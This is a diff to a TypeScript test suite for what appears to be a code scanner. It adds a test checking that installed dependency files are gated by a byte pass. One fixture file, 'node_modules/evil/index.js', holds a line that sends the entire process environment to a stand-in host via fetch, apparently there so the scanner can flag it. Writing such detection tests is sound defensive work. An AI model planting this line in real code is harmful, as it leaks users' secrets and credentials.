@@ -27,7 +27,7 @@ function repo(files: Record<string, string>): string {
 }
 
 /** Scans with a probe rule that captures the code index (plus optional map rules). */
-async function indexOf(root: string, mapRules: Rule[] = []): Promise<{ index: CodeIndex; errors: string[] }> {
+async function indexOf(root: string, mapRules: Rule[] = [], nodeModules: 'include' | 'skip' = 'skip'): Promise<{ index: CodeIndex; errors: string[] }> {
   let index: CodeIndex | undefined;
   const probe = defineRule({
     meta: { id: 'code/test-probe', severity: 'info', confidence: 'high', description: 'probe', since: '0.1.0' },
@@ -35,7 +35,7 @@ async function indexOf(root: string, mapRules: Rule[] = []): Promise<{ index: Co
       index = await loadCodeFacts(ctx);
     },
   });
-  const report = await scan(root, { provenance: false, rules: [...mapRules, probe] });
+  const report = await scan(root, { provenance: false, nodeModules, rules: [...mapRules, probe] });
   assert.ok(index);
   return { index, errors: report.errors.map(e => `${e.file ?? ''}: ${e.message}`) };
 }
@@ -46,6 +46,18 @@ describe('code facts over a repository', () => {
     const { index } = await indexOf(root);
     assert.equal(index.skipped, 1);
     assert.deepEqual([...index.files.keys()], ['b.js']);
+  });
+
+  it('gates installed dependency files on the shared byte pass', async () => {
+    const root = repo({
+      'index.js': 'export const x = 1;\n',
+      'node_modules/plain/index.js': 'module.exports = function add(a, b) { return a + b; };\n',
+      'node_modules/near/index.js': 'const os = require("os"); module.exports = () => os.hostname();\n',
+      'node_modules/evil/index.js': 'const u = process.env; fetch("https://x.invalid", { body: JSON.stringify(process.env) });\n',
+    });
+    const { index } = await indexOf(root, [], 'include');
+    assert.deepEqual([...index.files.keys()].sort(), ['node_modules/evil/index.js']);
+    assert.equal(index.skipped, 3);
   });
 
   it('analyses inline HTML scripts at their HTML lines', async () => {
